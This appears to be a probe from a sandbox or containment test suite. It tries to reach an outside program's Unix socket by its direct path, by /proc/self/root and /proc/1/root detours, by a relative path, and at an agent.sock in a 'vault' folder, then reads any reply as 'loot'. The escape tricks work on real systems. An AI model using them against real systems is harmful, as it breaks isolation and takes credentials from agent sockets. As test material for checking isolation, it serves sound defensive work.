"""Reach the sockets of programs outside by their paths, by long ways round, and from their folder."""

# aims: outside
# control: harms
import os
import socket

from attack import attempt, loot, target, tried

tried()
door = target["door"]
for path in (
    door,
    f"/proc/self/root{door}",
    f"/proc/1/root{door}",
    os.path.relpath(door),
    f"{target['vault']}/agent.sock",
):
    with socket.socket(socket.AF_UNIX) as one:
        if attempt(lambda one=one, path=path: one.connect(path) or True):
            loot(one.recv(4096))
